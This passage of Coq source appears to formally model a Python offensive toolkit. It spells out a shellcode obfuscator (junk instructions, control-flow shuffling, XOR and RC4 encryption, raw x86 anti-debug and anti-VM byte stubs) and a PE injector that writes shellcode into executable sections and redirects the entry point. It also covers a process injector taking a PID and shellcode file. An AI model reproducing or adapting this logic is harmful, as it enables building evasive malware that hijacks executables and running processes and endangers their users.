    (m : Manager) (w : W) (out : list string) (rt : Runtime)
    : Manager * W * list string * Runtime * outcome PyVal :=
  let '(m', w', out', rt', r) := set_body disk k value m w out rt in
  let '(rt'', r') := error_handler "set" r rt' in
  (m', w', out', rt'', r').

End Listeners.

End ConfigAccess.

(* ===================================================================== *)
(** * core/tool_base.py: the life cycle of a tool *)
(* ===================================================================== *)

Module ToolLifecycle.
Import Py ErrorHandler ToolBase.

Definition set_config (c : PyVal) (t : Tool) : Tool :=
  MkTool (status t) (progress t) c (config_schema t) (_error t).

(** ** Validation of a configuration against the tool's schema *)

(** [_validate_config_schema(config, schema)].  As in the configuration
    validator, the inner [find_schema] is the lookup of the key ["schema"],
    written out so that the recursion is structural. *)
Fixpoint _validate_config_schema (config schema : PyVal) {struct schema}
    : outcome unit :=
  match schema with
  | PyDict items =>
      (fix loop (items : list (string * PyVal)) : outcome unit :=
         match items with
         | [] => Returned tt
         | (key, value_schema) :: rest =>
             present ← py_contains (PyStr key) config;
             (if negb present then
                required ← py_get value_schema "required" (PyBool true);
                if truthy required
                then Raised (raise_exc OperationError
                               ("缺少必需的配置项: " +:+ key))
                else Returned tt
              else
                value ← py_getitem config key;
                match value_schema with
                | PyDict vs =>
                    match dict_get "type" vs with
                    | Some t => _validate_type value t key
                    | None => Returned tt
                    end;;
                    match dict_get "values" vs with
                    | Some vals => _validate_values value vals key
                    | None => Returned tt
                    end;;
                    (fix find_schema (vs' : list (string * PyVal)) : outcome unit :=
                       match vs' with
                       | [] => Returned tt
                       | (k, sub) :: vs'' =>
                           if String.eqb "schema" k
                           then _validate_config_schema value sub
                           else find_schema vs''
                       end) vs
                | _ => Returned tt
                end);;
             loop rest
         end) items
  | _ => Raised (raise_exc AttributeError
           ("'" +:+ type_name schema +:+ "' object has no attribute 'items'"))
  end.

(** The body of [validate_config]: whatever the check raises becomes
    [False], and is kept in [_error]. *)
Definition validate_config_body (config : PyVal) (t : Tool)
    : Tool * outcome PyVal :=
  if negb (truthy (config_schema t)) then (t, Returned (PyBool true))
  else
    match _validate_config_schema config (config_schema t) with
    | Returned _ => (t, Returned (PyBool true))
    | Raised e => (set_error (Some e) t, Returned (PyBool false))
    end.

Definition validate_config (config : PyVal) (t : Tool) (rt : Runtime)
    : Tool * Runtime * outcome PyVal :=
  let '(t', r) := validate_config_body config t in
  let '(rt', r') := error_handler "validate_config" r rt in
  (t', rt', r').

(** ** Dependencies and permissions *)

(** What [__import__(name)] does: it returns the module, raises
    [ImportError] (or a subclass), or raises something else. *)
Inductive Import : Type :=
| Imported
| NotFound
| Failed (e : PyExc).

Definition _check_dependency (import : string -> Import) (dependency : string)
    : outcome bool :=
  match import dependency with
  | Imported => Returned true
  | NotFound => Returned false
  | Failed e => Raised e
  end.

(** The set [self.dependencies] is given in the order the loop visits it. *)
Fixpoint _check_dependencies (import : string -> Import) (deps : list string)
    : outcome unit :=
  match deps with
  | [] => Returned tt
  | dep :: rest =>
      found ← _check_dependency import dep;
      if negb found then Raised (raise_exc OperationError ("缺少依赖: " +:+ dep))
      else _check_dependencies import rest
  end.

Definition _check_permission (permission : string) : bool := true.

Fixpoint _check_permissions (perms : list string) : outcome unit :=
  match perms with
  | [] => Returned tt
  | perm :: rest =>
      if negb (_check_permission perm)
      then Raised (raise_exc OperationError ("缺少权限: " +:+ perm))
      else _check_permissions rest
  end.

(** ** The operations *)

(** What a concrete tool supplies besides its name and [_execute]. *)
Record ToolImpl : Type := MkToolImpl {
  cls : ToolClass;
  dependencies : list string;
  required_permissions : list string;
  _initialize : Tool -> Runtime -> Tool * Runtime * outcome PyVal;
  _cleanup : Tool -> Runtime -> Tool * Runtime * outcome unit
}.

(** The body of [initialize]; [config] is [None] when the argument is left
    out, and [inits] collects the tools [_initialize] was invoked on. *)
Definition initialize_body (impl : ToolImpl) (import : string -> Import)
    (config : PyVal) (t : Tool) (rt : Runtime) (inits : list Tool)
    : Tool * Runtime * list Tool * outcome PyVal :=
  let failed (t : Tool) (rt : Runtime) (inits : list Tool) (e : PyExc) :=
    (set_error (Some e) (set_status ERROR t), rt, inits, Raised e) in
  let t1 := set_status INITIALIZING t in
  let '(t2, rt2, validated) :=
    if truthy config then
      let '(t', rt', r) := validate_config config t1 rt in
      match r with
      | Returned valid =>
          if negb (truthy valid)
          then (t', rt', Raised (raise_exc OperationError "配置验证失败"))
          else (set_config config t', rt', Returned tt)
      | Raised e => (t', rt', Raised e)
      end
    else (t1, rt, Returned tt) in
  match (validated;;
         _check_dependencies import (dependencies impl);;
         _check_permissions (required_permissions impl)) with
  | Raised e => failed t2 rt2 inits e
  | Returned _ =>
      let '(t3, rt3, r) := _initialize impl t2 rt2 in
      let inits' := inits ++ [t2] in
      match r with
      | Raised e => failed t3 rt3 inits' e
      | Returned result =>
          (set_status (if truthy result then READY else ERROR) t3,
           rt3, inits', Returned result)
      end
  end.

Definition initialize (impl : ToolImpl) (import : string -> Import)
    (config : PyVal) (t : Tool) (rt : Runtime) (inits : list Tool)
    : Tool * Runtime * list Tool * outcome PyVal :=
  let '(t', rt', inits', r) := initialize_body impl import config t rt inits in
  let '(rt'', r') := error_handler "initialize" r rt' in
  (t', rt'', inits', r').

Definition cleanup_body (impl : ToolImpl) (t : Tool) (rt : Runtime)
    : Tool * Runtime * outcome PyVal :=
  let t1 := set_status CLEANING t in
  let '(t2, rt2, r) := _cleanup impl t1 rt in
  match r with
  | Returned _ => (set_status CLEANED t2, rt2, Returned PyNone)
  | Raised e => (set_error (Some e) (set_status ERROR t2), rt2, Raised e)
  end.

Definition cleanup (impl : ToolImpl) (t : Tool) (rt : Runtime)
    : Tool * Runtime * outcome PyVal :=
  let '(t', rt', r) := cleanup_body impl t rt in
  let '(rt'', r') := error_handler "cleanup" r rt' in
  (t', rt'', r').

Definition pause (t : Tool) : Tool :=
  match status t with
  | RUNNING => set_status PAUSED t
  | _ => t
  end.

Definition resume (t : Tool) : Tool :=
  match status t with
  | PAUSED => set_status RUNNING t
  | _ => t
  end.

(** [reset] (the resource figures are not among the attributes of [Tool]). *)
Definition reset (t : Tool) : Tool :=
  MkTool UNINITIALIZED ProgressInfo_init (config t) (config_schema t) None.

(** [update_progress] without keyword details. *)
Definition update_progress (now : Z) (current total : Z) (message : string)
    (t : Tool) : Tool :=
  set_progress (ProgressInfo_update now current total message (progress t)) t.

End ToolLifecycle.

(* ===================================================================== *)
(** * plugins/plugin_manager.py: looking up and reloading *)
(* ===================================================================== *)

Module PluginReload.
Import Py ErrorHandler Plugins.

Definition get_plugin (pm : PluginManager) (plugin_name : string)
    : option Plugin :=
  dict_get plugin_name (plugins pm).

(** [get_all_plugins]: a copy of the registry. *)
Definition get_all_plugins (pm : PluginManager) : pydict Plugin := plugins pm.

(** What a call of the (decorated) [load_plugin] does is a parameter: it
    imports and instantiates code from the plugin directory. *)
Definition Loader : Type :=
  string -> PluginManager -> Runtime -> list string ->
  PluginManager * Runtime * list string * outcome PyVal.

(** The body of [reload_plugin]; [loads] collects the registries
    [load_plugin] was called on. *)
Definition reload_plugin_body (load_plugin : Loader) (plugin_name : string)
    (pm : PluginManager) (rt : Runtime) (cleanups : list string)
    (loads : list (string * PluginManager))
    : PluginManager * Runtime * list string * list (string * PluginManager) *
      outcome PyVal :=
  if dict_mem plugin_name (plugins pm) then
    match unload_plugin plugin_name pm rt cleanups with
    | (pm1, rt1, cleanups1, Raised e) => (pm1, rt1, cleanups1, loads, Raised e)
    | (pm1, rt1, cleanups1, Returned unloaded) =>
        if truthy unloaded then
          let '(pm2, rt2, cleanups2, r) :=
            load_plugin plugin_name pm1 rt1 cleanups1 in
          (pm2, rt2, cleanups2, loads ++ [(plugin_name, pm1)], r)
        else (pm1, rt1, cleanups1, loads, Returned (PyBool false))
    end
  else (pm, rt, cleanups, loads, Returned (PyBool false)).

Definition reload_plugin (load_plugin : Loader) (plugin_name : string)
    (pm : PluginManager) (rt : Runtime) (cleanups : list string)
    (loads : list (string * PluginManager))
    : PluginManager * Runtime * list string * list (string * PluginManager) *
      outcome PyVal :=
  let '(pm', rt', cleanups', loads', r) :=
    reload_plugin_body load_plugin plugin_name pm rt cleanups loads in
  let '(rt'', r') := error_handler "reload_plugin" r rt' in
  (pm', rt'', cleanups', loads', r').

End PluginReload.

(* ===================================================================== *)
(** * tools/obfuscator.py: the passes, the pipeline and the entry points *)
(* ===================================================================== *)

Module ObfuscatorPasses.
Import Py ErrorHandler.

(** ** Encoders and prefixes *)

(** One round of [_custom_encode]: a byte becomes its two nibbles, each
    tagged with [0x40]. *)
Definition custom_encode_step (result : list Z) (b : Z) : outcome (list Z) :=
  let high := Z.land (Z.shiftr b 4) 0xF in
  let low := Z.land b 0xF in
  result ← bytearray_append result (Z.lor high 0x40);
  bytearray_append result (Z.lor low 0x40).

Definition _custom_encode (data : list Z) (rt : Runtime)
    : Runtime * outcome (list Z) :=
  Obfuscator.logged "自定义编码失败"
    (result ← foldM custom_encode_step data []; bytes_of result) rt.

Definition anti_debug : list Z :=
  [0x64; 0xA1; 0x30; 0x00; 0x00; 0x00;
   0x0F; 0xB6; 0x40; 0x02;
   0x84; 0xC0;
   0x74; 0x05;
   0xE9; 0xFF; 0xFF; 0xFF; 0xFF].

Definition anti_vm : list Z :=
  [0x0F; 0x31;
   0x89; 0xC1;
   0x0F; 0x31;
   0x29; 0xC8;
   0x3D; 0x00; 0x00; 0x04; 0x00].

Definition _add_anti_debug (data : list Z) (rt : Runtime)
    : Runtime * outcome (list Z) :=
  Obfuscator.logged "添加反调试代码失败"
    (stub ← bytes_of anti_debug; Returned (stub ++ data)) rt.

Definition _add_anti_vm (data : list Z) (rt : Runtime)
    : Runtime * outcome (list Z) :=
  Obfuscator.logged "添加反虚拟机代码失败"
    (stub ← bytes_of anti_vm; Returned (stub ++ data)) rt.

(** The passes that are not implemented return their input. *)
Definition _aes_encrypt (data : list Z) : list Z := data.
Definition _obfuscate_pe (data : list Z) : list Z := data.
Definition _obfuscate_script (data : list Z) : list Z := data.

(** ** Junk instructions *)

(** The entries of [junk_instructions], in the order of the list. *)
Inductive Junk : Type :=
| NOP | PUSH_POP_EAX | PUSH_POP_ECX | PUSH_POP_EDX | PUSH_POP_EBX
| XCHG_EBX | XCHG_ECX | XOR_INC_DEC | JMP_0 | JE_0 | JNE_0 | CALL_0.

Definition junk_bytes (j : Junk) : list Z :=
  match j with
  | NOP => [0x90]
  | PUSH_POP_EAX => [0x50; 0x58]
  | PUSH_POP_ECX => [0x51; 0x59]
  | PUSH_POP_EDX => [0x52; 0x5A]
  | PUSH_POP_EBX => [0x53; 0x5B]
  | XCHG_EBX => [0x87; 0xDB]
  | XCHG_ECX => [0x87; 0xC9]
  | XOR_INC_DEC => [0x33; 0xC0; 0x40; 0x48]
  | JMP_0 => [0xEB; 0x00]
  | JE_0 => [0x74; 0x00]
  | JNE_0 => [0x75; 0x00]
  | CALL_0 => [0xE8; 0x00; 0x00; 0x00; 0x00]
  end.

(** One round of the loop of [_add_junk_code].  [choice k] is what the
    [k]-th call of [random.choice] draws; the loop state is the bytes so far
    with the number of draws made. *)
Definition junk_step (choice : nat -> Junk) (st : list Z * nat) (ib : Z * Z)
    : outcome (list Z * nat) :=
  let '(result, drawn) := st in
  let '(i, b) := ib in
  result ← bytearray_append result b;
  if i mod 5 =? 0
  then Returned (result ++ junk_bytes (choice drawn), S drawn)
  else Returned (result, drawn).

Definition _add_junk_code (choice : nat -> Junk) (data : list Z) (rt : Runtime)
    : Runtime * outcome (list Z) :=
  Obfuscator.logged "添加花指令失败"
    ('(result, _) ← foldM (junk_step choice) (enumerate data) ([], O);
     bytes_of result) rt.

(** ** The control-flow pass *)

(** [l[start:stop]] *)
Definition slice {A} (start stop : Z) (l : list A) : list A :=
  drop (clip (length l) start) (take (clip (length l) stop) l).

(** [range(start, stop, step)] *)
Definition py_range (start stop step : Z) : outcome (list Z) :=
  if step =? 0
  then Raised (raise_exc ValueError "range() arg 3 must not be zero")
  else
    let count := if 0 <? step then (stop - start + step - 1) / step
                 else (start - stop - step - 1) / (- step) in
    Returned (map (λ k, start + step * k) (seqZ 0 count)).

(** [struct.pack('<I', v)] *)
Definition pack_u32_le (v : Z) : outcome (list Z) :=
  if (0 <=? v) && (v <? 2 ^ 32) then
    Returned (map (λ k : nat, Z.land (Z.shiftr v (8 * Z.of_nat k)) 0xFF) (seq 0 4))
  else Raised (raise_exc (OtherException "struct.error")
                 "argument out of range").

(** One round of the loop that chains the blocks. *)
Definition flow_step (blocks : list (list Z)) (result : list Z)
    (ib : Z * list Z) : outcome (list Z) :=
  let '(i, block) := ib in
  let result := result ++ block in
  if i <? len blocks - 1 then
    next ← list_getitem blocks (i + 1);
    let next_offset := len next in
    packed ← pack_u32_le next_offset;
    Returned (result ++ ([0xE9] ++ packed))
  else Returned result.

(** [block_size] is what [random.randint(5, 10)] draws, and [shuffle] the
    rearrangement [random.shuffle] applies. *)
Definition _obfuscate_flow (block_size : Z)
    (shuffle : list (list Z) -> list (list Z))
    (data : list Z) (rt : Runtime) : Runtime * outcome (list Z) :=
  Obfuscator.logged "控制流混淆失败"
    (starts ← py_range 0 (len data) block_size;
     let blocks := map (λ i, slice i (i + block_size) data) starts in
     let blocks := shuffle blocks in
     result ← foldM (flow_step blocks) (enumerate blocks) [];
     bytes_of result) rt.

(** ** The pipeline and [obfuscate] *)

(** What is drawn at random in one run, and the world outside the tool. *)
Record Draws : Type := MkDraws {
  choice : nat -> Junk;
  block_size : Z;
  shuffle : list (list Z) -> list (list Z);
  xor_key : Z;
  custom_key : list Z;
  rc4_key : list Z
}.

(** [write_file path data] is what [with open(path, 'wb') as f:
    f.write(data)] does, and [left_behind path data] what the file holds
    after a write that raised: [None] when it could not even be opened,
    else what got written before the failure (opening it made it empty). *)
Record Env : Type := MkEnv {
  path_exists : string -> bool;
  read_file : string -> outcome (list Z);
  write_file : string -> list Z -> outcome unit;
  left_behind : string -> list Z -> option (list Z);
  clock : nat -> Z;                      (* the successive readings of the clock *)
  b64encode : list Z -> list Z;          (* [base64.b64encode] *)
  hexlify : list Z -> list Z             (* [binascii.hexlify] *)
}.

(** What a run changes: the tool's progress, the log, the clock readings
    taken and the files written to, each with the bytes it was left with. *)
Record State : Type := MkState {
  progress : ToolBase.ProgressInfo;
  rt : Runtime;
  ticks : nat;
  written : list (string * list Z)
}.

Definition M (A : Type) : Type := State -> State * outcome A.

Definition ret {A} (a : A) : M A := λ s, (s, Returned a).
Definition raise {A} (c : ExcClass) (msg : string) : M A :=
  λ s, (s, Raised (raise_exc c msg)).
Definition lift {A} (r : outcome A) : M A := λ s, (s, r).
Definition bindM {A B} (m : M A) (k : A -> M B) : M B :=
  λ s, match m s with
       | (s', Returned a) => k a s'
       | (s', Raised e) => (s', Raised e)
       end.

#[local] Notation "x <- m ; k" := (bindM m (λ x, k))
  (at level 100, m at next level, right associativity, only parsing).
#[local] Notation "m >> k" := (bindM m (λ _, k))
  (at level 100, right associativity, only parsing).

(** A pass that only touches the log. *)
Definition pass {A} (f : Runtime -> Runtime * outcome A) : M A :=
  λ s, let '(rt', r) := f (rt s) in
       (MkState (progress s) rt' (ticks s) (written s), r).

(** [try: body except Exception as e: self.logger.log_error(e, ctx); raise] *)
Definition try_log {A} (ctx : string) (body : M A) : M A :=
  λ s, match body s with
       | (s1, Raised e) =>
           (MkState (progress s1) (emit (LogError e (Some ctx)) (rt s1))
                    (ticks s1) (written s1), Raised e)
       | ok => ok
       end.

Section WithEnv.
Variable env : Env.

Definition update_progress (current total : Z) (message : string) : M unit :=
  λ s, (MkState
          (ToolBase.ProgressInfo_update (clock env (ticks s)) current total
             message (progress s))
          (rt s) (S (ticks s)) (written s), Returned tt).

(** [self.config[a][b]] *)
Definition config_at (config : PyVal) (a b : string) : M PyVal :=
  lift (section ← py_getitem config a; py_getitem section b).

Definition _base64_encode (data : list Z) (rt : Runtime)
    : Runtime * outcome (list Z) :=
  Obfuscator.logged "Base64编码失败" (Returned (b64encode env data)) rt.

Definition _hex_encode (data : list Z) (rt : Runtime)
    : Runtime * outcome (list Z) :=
  Obfuscator.logged "十六进制编码失败" (Returned (hexlify env data)) rt.

Definition _obfuscate_shellcode (config : PyVal) (draws : Draws)
    (data : list Z) : M (list Z) :=
  try_log "Shellcode混淆失败"
    (update_progress 2 5 "正在应用混淆技术..." >>
     junk_code <- config_at config "techniques" "junk_code";
     data <- (if truthy junk_code
              then pass (_add_junk_code (choice draws) data)
              else ret data);
     flow_obfuscation <- config_at config "techniques" "flow_obfuscation";
     data <- (if truthy flow_obfuscation
              then pass (_obfuscate_flow (block_size draws) (shuffle draws) data)
              else ret data);
     update_progress 3 5 "正在加密代码..." >>
     encryption <- config_at config "techniques" "encryption";
     data <- (if py_eq encryption (PyStr "xor")
              then pass (Obfuscator._xor_encrypt (xor_key draws) data)
              else if py_eq encryption (PyStr "custom_xor")
              then pass (Obfuscator._custom_xor_encrypt (custom_key draws) data)
              else if py_eq encryption (PyStr "rc4")
              then pass (Obfuscator._rc4_encrypt (rc4_key draws) data)
              else if py_eq encryption (PyStr "aes")
              then ret (_aes_encrypt data)
              else ret data);
     encoding <- config_at config "techniques" "encoding";
     data <- (if py_eq encoding (PyStr "base64")
              then pass (_base64_encode data)
              else if py_eq encoding (PyStr "hex")
              then pass (_hex_encode data)
              else if py_eq encoding (PyStr "custom")
              then pass (_custom_encode data)
              else ret data);
     debug_check <- config_at config "protection" "anti_debug";
     data <- (if truthy debug_check then pass (_add_anti_debug data)
              else ret data);
     vm_check <- config_at config "protection" "anti_vm";
     data <- (if truthy vm_check then pass (_add_anti_vm data) else ret data);
     ret data).

(** [with open(output_file, 'wb') as f: f.write(result)] *)
Definition save (output_file : string) (result : list Z) : M unit :=
  λ s, match write_file env output_file result with
       | Returned _ =>
           (MkState (progress s) (rt s) (ticks s)
                    (written s ++ [(output_file, result)]), Returned tt)
       | Raised e =>
           match left_behind env output_file result with
           | Some partial =>
               (MkState (progress s) (rt s) (ticks s)
                        (written s ++ [(output_file, partial)]), Raised e)
           | None => (s, Raised e)
           end
       end.

(** The body of [obfuscate]. *)
Definition obfuscate_body (config : PyVal) (draws : Draws)
    (input_file output_file : string) : M bool :=
  try_log "代码混淆失败"
    (if negb (path_exists env input_file)
     then raise OperationError ("输入文件不存在: " +:+ input_file)
     else
       data <- lift (read_file env input_file);
       update_progress 1 5 "正在分析代码..." >>
       target_type <- config_at config "obfuscation" "target_type";
       result <- (if py_eq target_type (PyStr "shellcode")
                  then _obfuscate_shellcode config draws data
                  else if py_eq target_type (PyStr "pe")
                  then ret (_obfuscate_pe data)
                  else ret (_obfuscate_script data));
       match result with
       | [] => raise OperationError "混淆失败"     (* [if not result] *)
       | _ =>
           update_progress 4 5 "正在保存文件..." >>
           save output_file result >>
           update_progress 5 5 "混淆完成" >>
           ret true
       end).

(** [obfuscate] as callers see it, under [@error_handler]. *)
Definition obfuscate (config : PyVal) (draws : Draws)
    (input_file output_file : string) : M PyVal :=
  λ s, let '(s1, r) := obfuscate_body config draws input_file output_file s in
       let r := match r with
                | Returned b => Returned (PyBool b)
                | Raised e => Raised e
                end in
       let '(rt', r') := error_handler "obfuscate" r (rt s1) in
       (MkState (progress s1) rt' (ticks s1) (written s1), r').

End WithEnv.

(** [_execute]: [obfuscate] stands for the decorated method, whatever
    arguments it is given. *)
Definition _execute
    (obfuscate : PyVal -> PyVal -> ToolBase.Tool -> Runtime ->
                 ToolBase.Tool * Runtime * outcome PyVal)
    (args : list PyVal) (kwargs : pydict PyVal)
    (t : ToolBase.Tool) (rt : Runtime)
    : ToolBase.Tool * Runtime * outcome PyVal :=
  if len args <? 2 then
    (t, rt, Raised (raise_exc OperationError
                      "缺少必要参数: input_file, output_file"))
  else
    match args with
    | input_file :: output_file :: _ => obfuscate input_file output_file t rt
    | _ => (t, rt, Raised (raise_exc IndexError "tuple index out of range"))
    end.

End ObfuscatorPasses.

(* ===================================================================== *)
(** * tools/pe_injector.py: alignment, section injection, the entry point *)
(* ===================================================================== *)

Module PELayout.
Import Py ErrorHandler.

(** [((value + alignment - 1) // alignment) * alignment] *)
Definition _align (value alignment : Z) : outcome Z :=
  if alignment =? 0
  then Raised (raise_exc ZeroDivisionError "integer division or modulo by zero")
  else Returned (((value + alignment - 1) / alignment) * alignment).

(** The header fields of a section, and the fields of the parsed image, that
    [_inject_new_section] and [_inject_existing_section] read and write. *)
Record Section : Type := MkSection {
  Name : list Z;
  Misc_VirtualSize : Z;
  VirtualAddress : Z;
  SizeOfRawData : Z;
  PointerToRawData : Z;
  Characteristics : Z
}.

Record Image : Type := MkImage {
  NumberOfSections : Z;                (* FILE_HEADER *)
  SectionAlignment : Z;                (* OPTIONAL_HEADER *)
  FileAlignment : Z;
  SizeOfImage : Z;
  AddressOfEntryPoint : Z;
  sections : list Section;
  __data__ : list Z
}.

Definition set_data (data : list Z) (pe : Image) : Image :=
  MkImage (NumberOfSections pe) (SectionAlignment pe) (FileAlignment pe)
          (SizeOfImage pe) (AddressOfEntryPoint pe) (sections pe) data.

Definition set_entry (entry : Z) (pe : Image) : Image :=
  MkImage (NumberOfSections pe) (SectionAlignment pe) (FileAlignment pe)
          (SizeOfImage pe) entry (sections pe) (__data__ pe).

(** [self.config["injection"]["preserve_entry"]] *)
Definition preserve_entry (config : PyVal) : outcome PyVal :=
  injection ← py_getitem config "injection";
  py_getitem injection "preserve_entry".

(** ** A new section *)

Definition text_name : list Z := [46; 116; 101; 120; 116; 0; 0; 0].

(** The [try] block of [_inject_new_section].  The image is returned as the
    block leaves it: the header and the section table are updated before the
    configuration is read and the jump is built. *)
Definition inject_new_section_try (config : PyVal) (pe : Image)
    (shellcode : list Z) : Image * outcome bool :=
  let shellcode_size := len shellcode in
  match
    (aligned_size ← _align shellcode_size (SectionAlignment pe);
     last ← list_getitem (sections pe) (-1);
     va ← _align (VirtualAddress last + Misc_VirtualSize last)
                 (SectionAlignment pe);
     raw_size ← _align shellcode_size (FileAlignment pe);
     last ← list_getitem (sections pe) (-1);
     raw_ptr ← _align (PointerToRawData last + SizeOfRawData last)
                      (FileAlignment pe);
     Returned (aligned_size,
               MkSection text_name shellcode_size va raw_size raw_ptr 0x60000020))
  with
  | Raised e => (pe, Raised e)
  | Returned (aligned_size, new_section) =>
      let pe1 :=
        MkImage (NumberOfSections pe + 1) (SectionAlignment pe)
          (FileAlignment pe)
          (VirtualAddress new_section + aligned_size)
          (AddressOfEntryPoint pe)
          (sections pe ++ [new_section])
          (slice_to (PointerToRawData new_section) (__data__ pe) ++
           shellcode ++
           replicate (Z.to_nat (SizeOfRawData new_section - len shellcode)) 0 ++
           slice_from (PointerToRawData new_section) (__data__ pe)) in
      match preserve_entry config with
      | Raised e => (pe1, Raised e)
      | Returned preserve =>
          if truthy preserve then
            let original_entry := AddressOfEntryPoint pe1 in
            match PEInjector._create_return_jump
                    (VirtualAddress new_section + len shellcode) original_entry
            with
            | Raised e => (pe1, Raised e)
            | Returned jmp_code =>
                let at_jump := PointerToRawData new_section + len shellcode in
                let pe2 :=
                  set_data (slice_to at_jump (__data__ pe1) ++ jmp_code ++
                            slice_from (at_jump + len jmp_code) (__data__ pe1))
                           pe1 in
                (set_entry (VirtualAddress new_section) pe2, Returned true)
            end
          else (set_entry (VirtualAddress new_section) pe1, Returned true)
      end
  end.

(** [_inject_new_section]: any exception is logged and becomes [False]. *)
Definition _inject_new_section (config : PyVal) (pe : Image)
    (shellcode : list Z) (rt : Runtime) : Image * Runtime * bool :=
  match inject_new_section_try config pe shellcode with
  | (pe', Returned ok) => (pe', rt, ok)
  | (pe', Raised e) => (pe', emit (LogError e (Some "新节注入失败")) rt, false)
  end.

(** ** An existing section *)

(** The search loop: the first executable section with room for the
    shellcode after its virtual size, with its position in the table. *)
Fixpoint find_target (shellcode : list Z) (secs : list Section) (i : nat)
    : option (nat * Section) :=
  match secs with
  | [] => None
  | section :: rest =>
      if negb (Z.land (Characteristics section) 0x20000000 =? 0) &&
         (Misc_VirtualSize section + len shellcode <=? SizeOfRawData section)
      then Some (i, section)
      else find_target shellcode rest (S i)
  end.

Definition grow (n : Z) (s : Section) : Section :=
  MkSection (Name s) (Misc_VirtualSize s + n) (VirtualAddress s)
            (SizeOfRawData s) (PointerToRawData s) (Characteristics s).

(** The [try] block of [_inject_existing_section]. *)
Definition inject_existing_section_try (config : PyVal) (pe : Image)
    (shellcode : list Z) : Image * outcome bool :=
  match find_target shellcode (sections pe) 0 with
  | None => (pe, Raised (raise_exc OperationError "未找到合适的节"))
  | Some (i, target_section) =>
      let injection_offset :=
        PointerToRawData target_section + Misc_VirtualSize target_section in
      match
        (preserve ← preserve_entry config;
         if truthy preserve then
           let original_entry := AddressOfEntryPoint pe in
           jmp_code ← PEInjector._create_return_jump
                        (VirtualAddress target_section +
                         Misc_VirtualSize target_section + len shellcode)
                        original_entry;
           Returned
             (slice_to injection_offset (__data__ pe) ++ shellcode ++ jmp_code ++
              slice_from (injection_offset + len shellcode + len jmp_code)
                         (__data__ pe))
         else
           Returned
             (slice_to injection_offset (__data__ pe) ++ shellcode ++
              slice_from (injection_offset + len shellcode) (__data__ pe)))
      with
      | Raised e => (pe, Raised e)
      | Returned data' =>
          let grown := grow (len shellcode) target_section in
          (MkImage (NumberOfSections pe) (SectionAlignment pe)
             (FileAlignment pe) (SizeOfImage pe)
             (VirtualAddress grown + Misc_VirtualSize grown - len shellcode)
             (<[i := grown]> (sections pe))
             data',
           Returned true)
      end
  end.

Definition _inject_existing_section (config : PyVal) (pe : Image)
    (shellcode : list Z) (rt : Runtime) : Image * Runtime * bool :=
  match inject_existing_section_try config pe shellcode with
  | (pe', Returned ok) => (pe', rt, ok)
  | (pe', Raised e) => (pe', emit (LogError e (Some "现有节注入失败")) rt, false)
  end.

(** [_execute]: [inject] stands for the decorated method. *)
Definition _execute
    (inject : PyVal -> PyVal -> PyVal -> ToolBase.Tool -> Runtime ->
              ToolBase.Tool * Runtime * outcome PyVal)
    (args : list PyVal) (kwargs : pydict PyVal)
    (t : ToolBase.Tool) (rt : Runtime)
    : ToolBase.Tool * Runtime * outcome PyVal :=
  if len args <? 3 then
    (t, rt, Raised (raise_exc OperationError
                      "缺少必要参数: pe_file, shellcode_file, output_file"))
  else
    match args with
    | pe_file :: shellcode_file :: output_file :: _ =>
        inject pe_file shellcode_file output_file t rt
    | _ => (t, rt, Raised (raise_exc IndexError "tuple index out of range"))
    end.

End PELayout.

(* ===================================================================== *)
(** * tools/process_injector.py: the entry point *)
(* ===================================================================== *)

Module ProcessTool.
Import Py ErrorHandler.

(** [int(v)].  A float is truncated towards zero; how a string is read is
    left to [parse]. *)
Definition py_int (parse : string -> outcome Z) (v : PyVal) : outcome Z :=
  match v with
  | PyInt n => Returned n
  | PyBool b => Returned (Z.b2z b)
  | PyFloat f =>
      match f with
      | S754_zero _ => Returned 0
      | S754_finite s m e =>
          let sm := if s then - Z.pos m else Z.pos m in
          Returned (if 0 <=? e then sm * 2 ^ e else Z.quot sm (2 ^ (- e)))
      | S754_infinity _ =>
          Raised (raise_exc OverflowError "cannot convert float infinity to integer")
      | S754_nan =>
          Raised (raise_exc ValueError "cannot convert float NaN to integer")
      end
  | PyStr s => parse s
  | _ => Raised (raise_exc TypeError
           ("int() argument must be a string, a bytes-like object or a real number, not '"
            +:+ type_name v +:+ "'"))
  end.

(** [_execute]: [inject] stands for the decorated method. *)
Definition _execute (parse : string -> outcome Z)
    (inject : Z -> PyVal -> ToolBase.Tool -> Runtime ->
              ToolBase.Tool * Runtime * outcome PyVal)
    (args : list PyVal) (kwargs : pydict PyVal)
    (t : ToolBase.Tool) (rt : Runtime)
    : ToolBase.Tool * Runtime * outcome PyVal :=
  if len args <? 2 then
    (t, rt, Raised (raise_exc OperationError "缺少必要参数: pid, shellcode_file"))
  else
    match args with
    | pid :: shellcode_file :: _ =>
        match py_int parse pid with
        | Returned pid => inject pid shellcode_file t rt
        | Raised e => (t, rt, Raised e)
        end
    | _ => (t, rt, Raised (raise_exc IndexError "tuple index out of range"))
    end.

End ProcessTool.


(* ===================================================================== *)
(** * Specification vocabulary and sample inputs *)
(* ===================================================================== *)

Import Py ErrorHandler.
Import Obfuscator.
Import PEInjector.
Import ToolBase.
Import Plugins.
Import Config.
Import RC4Reference.
Import ProcessInjector.

(** ** Error history (utils/error_handler.py) *)

(** Three recorded errors, oldest first. *)
Definition three_errors : ErrorStats :=
  record_error (raise_exc PluginError "third")
    (record_error (raise_exc OperationError "second")
       (record_error (raise_exc ValidationError "first") ErrorStats_init)).

(** ** XOR transforms (tools/obfuscator.py) *)

Definition byte (b : Z) : Prop := 0 <= b < 256.

(** The rolling transform, position by position from index [s]. *)
Definition rolling (key : list Z) (s : Z) (data : list Z) : list Z :=
  zip_with (λ i b, Z.lxor b (key !!! Z.to_nat (i mod len key)))
           (seqZ s (len data)) data.

(** ** The return trampoline (tools/pe_injector.py) *)

(** The value a little-endian signed 32-bit field holds, read back from its
    four bytes: the specification's side of the encoding. *)
Definition signed32_of_little_endian (b0 b1 b2 b3 : Z) : Z :=
  let u := b0 + 256 * b1 + 65536 * b2 + 16777216 * b3 in
  if u <? 2 ^ 31 then u else u - 2 ^ 32.

(** ** Tool status protocol (core/tool_base.py) *)

(** A tool in the manner of the obfuscator: its [_execute] refuses a call
    with fewer than two arguments. *)
Definition sample_tool : ToolClass :=
  MkToolClass "Code Obfuscator"
    (λ args kwargs t rt,
       if (length args <? 2)%nat
       then (t, rt, Raised (raise_exc OperationError
                              "缺少必要参数: input_file, output_file"))
       else (t, rt, Returned (PyBool true))).

Definition fresh_tool : Tool := ToolBase_init PyNone (PyDict []).
Definition ready_tool : Tool := set_status READY fresh_tool.

